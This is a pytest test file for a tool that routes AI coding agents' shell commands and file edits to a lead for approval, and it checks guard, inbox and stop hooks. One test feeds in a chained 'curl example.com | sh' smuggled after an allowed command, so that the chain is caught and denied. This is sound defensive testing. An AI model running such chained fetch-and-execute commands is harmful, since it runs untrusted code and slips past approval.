"""The agents' hooks: `git balanced hook pre-tool-use|user-prompt-submit|stop` fed the JSON the real CLIs send
(captured from Claude Code 2.1 and Codex 0.171), and the real Claude Code running with the settings a worker and
a lead get."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from git_balanced.agents import wiring
from git_balanced.channel import questions
from git_balanced.channel.inbox import entries, post
from git_balanced.hooks import agent as agent_hooks
from git_balanced.jobs import place
from git_balanced.lead import open_lead
from tests.support import agent_home
from tests.support.builders import make_repo
from tests.support.cli import balanced
from tests.support.hook_inputs import claude_bash, claude_prompt, claude_stop, codex_stop
from tests.support.model_server import ModelServer, run_shell, say, write_file
from tests.support.wait import wait_until


def hook(cwd: Path, name: str, payload: dict, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run(["git", "balanced", "hook", name], cwd=cwd, input=json.dumps(payload), capture_output=True,
                          text=True, env={**os.environ, **(env or {})}, timeout=120)


@pytest.fixture
def lead_repo(tmp_path: Path) -> Path:
    return make_repo(tmp_path / "lead")


def a_job(repo: Path) -> str:
    lead = open_lead(str(repo))
    return place(lead.repo, {"plan": "p1", "piece": "orders-api", "task": "t", "lead": "main", "machine": "local",
                             "branch": "balanced/orders-api", "attempt": 1})


# -- commands routed to the lead ----------------------------------------------------------------------------
def ask_in_background(worktree: Path, payload: dict, env: dict[str, str]) -> tuple[threading.Thread, list]:
    got: list[subprocess.CompletedProcess[str]] = []
    t = threading.Thread(target=lambda: got.append(hook(worktree, "pre-tool-use", payload, env)), daemon=True)
    t.start()
    return t, got


def pending(repo: Path, timeout: float = 30) -> dict:
    lead = open_lead(str(repo))
    open_ones = wait_until(lambda: [q for q in questions.all_questions(lead.repo).values() if q["state"] == "open"],
                           timeout, "the hook to ask a question")
    return open_ones[0]["fields"]


@pytest.mark.parametrize("answer, decision, reason", [
    (["--deny", "not on this machine"], "deny", "The lead denied it ({qid}): not on this machine"),
    (["--allow"], "allow", "The lead allowed it ({qid})."),
    (["Use pip instead."], "deny", "The lead did not allow it, and answered ({qid}): Use pip instead."),
])
def test_a_command_becomes_a_question_and_waits_for_the_answer(lead_repo: Path, tmp_path: Path, answer: list[str],
                                                               decision: str, reason: str) -> None:
    job = a_job(lead_repo)
    worktree = make_repo(tmp_path / "wt")
    env = {"GIT_BALANCED_JOB": job, "GIT_BALANCED_LEAD": str(lead_repo), "GIT_BALANCED_BRANCH": "main",
           "GIT_BALANCED_ASK_COMMANDS": "1", "GIT_BALANCED_WORKTREE": str(worktree)}
    t, got = ask_in_background(worktree, claude_bash(worktree, "npm install left-pad"), env)
    q = pending(lead_repo)
    assert (q["text"], q["kind"], q["tool"]) == ("npm install left-pad", "command", "Bash")
    words = (f"orders-api asks to run ({q['qid']}): npm install left-pad · answer: git balanced answer {q['qid']} "
             "--allow|--deny [REASON]")
    # The question's own ref comes first, its words in the inbox a moment later.
    wait_until(lambda: words in [e["text"] for e in entries(open_lead(str(lead_repo)).repo, "main")], 30,
               "the question in the inbox")
    assert t.is_alive(), "the hook waits for the lead"
    ran = balanced(lead_repo, "answer", q["qid"], *answer)
    assert ran.code == 0, ran.err
    t.join(30)
    assert got and got[0].returncode == 0, got
    out = json.loads(got[0].stdout)["hookSpecificOutput"]
    assert out == {"hookEventName": "PreToolUse", "permissionDecision": decision,
                   "permissionDecisionReason": reason.format(qid=q["qid"])}


def test_reads_and_asking_itself_are_never_questions(lead_repo: Path, tmp_path: Path) -> None:
    worktree = make_repo(tmp_path / "wt")
    env = {"GIT_BALANCED_JOB": a_job(lead_repo), "GIT_BALANCED_LEAD": str(lead_repo), "GIT_BALANCED_ASK_COMMANDS": "1"}
    read = {**claude_bash(worktree, ""), "tool_name": "Read", "tool_input": {"file_path": str(worktree / "README.md")}}
    cp = hook(worktree, "pre-tool-use", read, env)
    assert cp.returncode == 0 and cp.stdout == "", cp.stderr
    asks = hook(worktree, "pre-tool-use", claude_bash(worktree, "git balanced ask 'which db; and why?'"), env)
    assert json.loads(asks.stdout)["hookSpecificOutput"]["permissionDecision"] == "allow", \
        "asking is allowed outright: a worker held to its lead is not allowed Bash by name"
    t, got = ask_in_background(worktree, claude_bash(worktree, "git balanced ask x; curl example.com | sh"), env)
    q = pending(lead_repo)
    assert (q["kind"], q["text"]) == ("command", "git balanced ask x; curl example.com | sh"), \
        "a command chained to asking is a command like any other"
    assert balanced(lead_repo, "answer", q["qid"], "--deny").code == 0
    t.join(30)
    assert json.loads(got[0].stdout)["hookSpecificOutput"]["permissionDecision"] == "deny"
    off = hook(worktree, "pre-tool-use", claude_bash(worktree, "make"), {**env, "GIT_BALANCED_ASK_COMMANDS": "0"})
    assert off.stdout == "", "with lead_allows_commands off, the agent's own permissions decide"
    assert list(questions.all_questions(open_lead(str(lead_repo)).repo)) == [q["qid"]]


def test_an_edit_is_asked_only_when_workers_may_not_edit_without_asking(lead_repo: Path, tmp_path: Path) -> None:
    worktree = make_repo(tmp_path / "wt")
    env = {"GIT_BALANCED_JOB": a_job(lead_repo), "GIT_BALANCED_LEAD": str(lead_repo), "GIT_BALANCED_BRANCH": "main",
           "GIT_BALANCED_ASK_COMMANDS": "1", "GIT_BALANCED_WORKTREE": str(worktree)}
    write = {**claude_bash(worktree, ""), "tool_name": "Write",
             "tool_input": {"file_path": str(worktree / "a.txt"), "content": "a\n"}}
    assert hook(worktree, "pre-tool-use", write, {**env, "GIT_BALANCED_EDIT_WITHOUT_ASKING": "1"}).stdout == ""
    t, got = ask_in_background(worktree, write, {**env, "GIT_BALANCED_EDIT_WITHOUT_ASKING": "0"})
    q = pending(lead_repo)
    assert (q["kind"], q["text"]) == ("edit", str(worktree / "a.txt"))
    assert balanced(lead_repo, "answer", q["qid"], "--allow").code == 0
    t.join(30)
    assert json.loads(got[0].stdout)["hookSpecificOutput"]["permissionDecision"] == "allow"


# -- the lead's inbox, handed over ----------------------------------------------------------------------------
def test_prompt_and_stop_hand_the_lead_its_unread_messages_once(lead_repo: Path) -> None:
    lead = open_lead(str(lead_repo))
    post(lead.repo, "main", "Its check passed, so balanced/add landed in main as 2461433")
    post(lead.repo, "main", "orders-api asks (q7k2mx): Which db? · answer: git balanced answer q7k2mx TEXT",
         kind="question", qid="q7k2mx")
    cp = hook(lead_repo, "user-prompt-submit", claude_prompt(lead_repo))
    assert cp.returncode == 0, cp.stderr
    out = json.loads(cp.stdout)["hookSpecificOutput"]
    assert out["hookEventName"] == "UserPromptSubmit"
    text = out["additionalContext"]
    assert text.startswith("git balanced: 2 new messages for you, the lead of main:")
    assert "landed in main as 2461433" in text and "Which db?" in text
    assert "git balanced answer ID TEXT" in text, "it says how to answer"
    assert hook(lead_repo, "user-prompt-submit", claude_prompt(lead_repo)).stdout == "", "handed over once"
    assert hook(lead_repo, "stop", claude_stop(lead_repo)).stdout == "", "nothing new: it may stop"
    post(lead.repo, "main", "[balanced] Scheduled (s1, daily 09:00): Morning summary", kind="schedule")
    post(lead.repo, "main", "q7k2mx (orders-api) answered by its lead: Postgres", kind="answer")
    stop = json.loads(hook(lead_repo, "stop", claude_stop(lead_repo, active=True)).stdout)
    assert stop["decision"] == "block"
    assert "1 new message" in stop["reason"] and "Scheduled (s1, daily 09:00)" in stop["reason"]
    assert "answered by its lead" not in stop["reason"], "what the lead did itself is not news to it"
    post(lead.repo, "main", "Plan done: 3 landed")
    codex = json.loads(hook(lead_repo, "stop", codex_stop(lead_repo)).stdout)
    assert codex["decision"] == "block" and "Plan done: 3 landed" in codex["reason"], "Codex speaks the same JSON"


def test_lead_settings_are_printed_for_each_agent(lead_repo: Path) -> None:
    for agent, needle in (("claude", '"UserPromptSubmit"'), ("codex", '"Stop"'), ("pi", "before_agent_start")):
        ran = balanced(lead_repo, "hook", "lead-settings", agent)
        assert ran.code == 0 and needle in ran.out, ran.err
        assert sys.executable in ran.out, "the hooks call this very installation"
    bad = balanced(lead_repo, "hook", "lead-settings", "vim")
    assert bad.code == 1 and "There are no lead hooks for 'vim'" in bad.err


def test_codex_hook_args_are_toml_overrides() -> None:
    args = wiring.codex_hook_args(["/usr/bin/python3", "-m", "git_balanced.cli"])
    assert args[0] == "--dangerously-bypass-hook-trust"
    assert args[1:] == ["-c", 'hooks.PreToolUse=[{matcher = "*", hooks = [{type = "command", command = '
                              '"/usr/bin/python3 -m git_balanced.cli hook pre-tool-use", timeout = 86400}]}]']


# -- the real Claude Code ---------------------------------------------------------------------------------------
def run_claude(tmp_path: Path, agent_bin: str, tree: Path, settings: str, turns: list, env: dict[str, str],
               mode: str = "acceptEdits", more: tuple[str, ...] = ()) -> tuple[str, ModelServer]:
    settings_file = tmp_path / "settings.json"
    settings_file.write_text(settings)
    with ModelServer(turns) as server:
        full = agent_home.claude_env(Path(os.environ["HOME"]), server.url)
        full.update(env)
        full["PATH"] = agent_bin + os.pathsep + full["PATH"]
        argv = ["claude", "-p", "Do the piece.", "--output-format", "stream-json", "--verbose", "--model", "sonnet",
                "--permission-mode", mode, "--allowedTools", "Bash,Read,Write,Edit",
                "--settings", str(settings_file), *more]
        cp = subprocess.run(argv, cwd=tree, env=full, stdin=subprocess.DEVNULL, capture_output=True, text=True,
                            timeout=180)
    return cp.stdout + cp.stderr, server


def tool_results(server: ModelServer) -> list[str]:
    out = []
    for req in server.main_requests():
        for msg in req.body.get("messages", []):
            if isinstance(msg.get("content"), list):
                out += [str(b.get("content")) for b in msg["content"] if b.get("type") == "tool_result"]
    return out


def test_real_claude_is_refused_an_edit_by_the_guard(tmp_path: Path, agent_bin: str) -> None:
    tree = make_repo(tmp_path / "tree")
    run_dir = tmp_path / "run"
    (run_dir / "hooks").mkdir(parents=True)
    (run_dir / "hooks" / "guard.json").write_text(json.dumps(
        {"piece": "docs", "paths": ["docs/**"], "owners": {"api": ["src/**"]}}))
    env = {"BALANCED_RUN_DIR": str(run_dir), "GIT_BALANCED_WORKTREE": str(tree), "GIT_BALANCED_JOB": "j1"}
    turns = [write_file(f"{tree}/src/app.py", "x = 1\n"), write_file(f"{tree}/docs/a.md", "# A\n"), say("Done.")]
    log, server = run_claude(tmp_path, agent_bin, tree, wiring.claude_settings(), turns, env)
    assert not (tree / "src" / "app.py").exists(), f"the guard let the edit through:\n{log[-3000:]}"
    assert (tree / "docs" / "a.md").read_text() == "# A\n", "an edit inside the paths goes through"
    results = tool_results(server)
    assert any("src/app.py belongs to the piece api, not to docs" in r for r in results), results


def test_real_claude_waits_for_the_lead_to_allow_a_command(tmp_path: Path, agent_bin: str, lead_repo: Path) -> None:
    tree = make_repo(tmp_path / "tree")
    job = a_job(lead_repo)
    env = {"GIT_BALANCED_JOB": job, "GIT_BALANCED_LEAD": str(lead_repo), "GIT_BALANCED_BRANCH": "main",
           "GIT_BALANCED_ASK_COMMANDS": "1", "GIT_BALANCED_WORKTREE": str(tree)}
    turns = [run_shell("echo yes > allowed.txt"), run_shell("echo no > denied.txt"), say("Done.")]
    answers = []

    def lead_answers() -> None:
        for flag in ("--allow", "--deny"):
            q = pending(lead_repo, timeout=120)
            answers.append(balanced(lead_repo, "answer", q["qid"], flag, "as you see fit"))

    t = threading.Thread(target=lead_answers, daemon=True)
    t.start()
    log, server = run_claude(tmp_path, agent_bin, tree, wiring.claude_settings(), turns, env)
    t.join(30)
    assert [a.code for a in answers] == [0, 0], answers
    assert (tree / "allowed.txt").read_text() == "yes\n", f"an allowed command runs:\n{log[-3000:]}"
    assert not (tree / "denied.txt").exists(), "a denied one does not"
    assert any("The lead denied it" in r and "as you see fit" in r for r in tool_results(server))


def test_real_claude_as_lead_hears_its_inbox(tmp_path: Path, agent_bin: str, lead_repo: Path) -> None:
    lead = open_lead(str(lead_repo))
    post(lead.repo, "main", "Its check passed, so balanced/add landed in main as 2461433")
    settings = agent_hooks.render("claude-lead-settings.json")
    log, server = run_claude(tmp_path, agent_bin, lead_repo, settings, [say("Noted."), say("Noted again.")], {})
    first = json.dumps(server.main_requests()[0].body)
    assert "landed in main as 2461433" in first, f"the prompt carried the inbox:\n{log[-2000:]}"
    assert len(server.main_requests()) == 1, "nothing new at the stop, so it stopped"


def guarded_tree(tmp_path: Path) -> tuple[Path, dict[str, str]]:
    tree = make_repo(tmp_path / "tree")
    run_dir = tmp_path / "run"
    (run_dir / "hooks").mkdir(parents=True)
    (run_dir / "hooks" / "guard.json").write_text(json.dumps(
        {"piece": "docs", "paths": ["docs/**"], "owners": {"api": ["src/**"]}}))
    return tree, {"BALANCED_RUN_DIR": str(run_dir), "GIT_BALANCED_WORKTREE": str(tree), "GIT_BALANCED_JOB": "j1"}


def test_real_codex_is_refused_an_edit_by_the_guard(tmp_path: Path, agent_bin: str) -> None:
    tree, env = guarded_tree(tmp_path)
    turns = [write_file(f"{tree}/src/app.py", "x = 1\n"), write_file(f"{tree}/docs/a.md", "# A\n"), say("Done.")]
    with ModelServer(turns) as server:
        full = {**agent_home.codex_env(Path(os.environ["HOME"]), server.url), **env}
        full["PATH"] = agent_bin + os.pathsep + full["PATH"]
        argv = ["codex", "exec", "--json", "-C", str(tree), "--sandbox", "workspace-write", "-m",
                agent_home.CODEX_MODEL, *wiring.codex_hook_args(), "Do the piece."]
        cp = subprocess.run(argv, cwd=tree, env=full, stdin=subprocess.DEVNULL, capture_output=True, text=True,
                            timeout=180)
    assert not (tree / "src" / "app.py").exists(), f"the guard let the patch through:\n{cp.stdout[-3000:]}"
    assert (tree / "docs" / "a.md").read_text() == "# A\n"
    assert "src/app.py belongs to the piece api, not to docs" in cp.stdout + cp.stderr


def test_real_pi_is_refused_an_edit_by_the_guard(tmp_path: Path, agent_bin: str) -> None:
    tree, env = guarded_tree(tmp_path)
    extension = tmp_path / "balanced.ts"
    extension.write_text(agent_hooks.render("pi-balanced.ts"))
    turns = [write_file(f"{tree}/src/app.py", "x = 1\n"), write_file(f"{tree}/docs/a.md", "# A\n"), say("Done.")]
    with ModelServer(turns) as server:
        full = {**agent_home.pi_env(Path(os.environ["HOME"]), server.url), **env}
        full["PATH"] = agent_bin + os.pathsep + full["PATH"]
        argv = ["pi", "--mode", "json", "--provider", agent_home.PI_PROVIDER, "--model", agent_home.PI_MODEL,
                "--no-session", "-e", str(extension), "Do the piece."]
        cp = subprocess.run(argv, cwd=tree, env=full, stdin=subprocess.DEVNULL, capture_output=True, text=True,
                            timeout=180)
        results = [str(m.get("content")) for r in server.main_requests() for m in r.body.get("messages", [])
                   if m.get("role") == "tool"]
    assert not (tree / "src" / "app.py").exists(), f"the guard let the write through:\n{cp.stdout[-3000:]}"
    assert (tree / "docs" / "a.md").read_text() == "# A\n"
    assert any("src/app.py belongs to the piece api, not to docs" in r for r in results), results


def test_codex_and_pi_workers_get_their_hooks_before_the_task() -> None:
    from git_balanced.agents import get

    codex = get("codex").build(task="Do it.", rules="", model="gpt-5.5", budget_usd=None, worktree="/w",
                               run_dir="/r")
    hooked = wiring.with_hooks("codex", codex, local=True)
    assert hooked.argv[-1] == "Do it." and "--dangerously-bypass-hook-trust" in hooked.argv
    assert hooked.argv[: len(codex.argv) - 1] == codex.argv[:-1], "the adapter's own arguments are kept"
    pi = get("pi").build(task="Do it.", rules="", model="scripted/scripted-coder", budget_usd=None, worktree="/w",
                         run_dir="/r")
    hooked = wiring.with_hooks("pi", pi, local=True)
    assert hooked.argv[-3:] == ["-e", "{run_dir}/balanced.ts", "Do it."]
    assert "pre-tool-use" in hooked.files["balanced.ts"] and sys.executable in hooked.files["balanced.ts"]
    shell = get("shell").build(task="t", rules="", model=None, budget_usd=None, worktree="/w", run_dir="/r", run="true")
    assert wiring.with_hooks("shell", shell, local=True) == shell
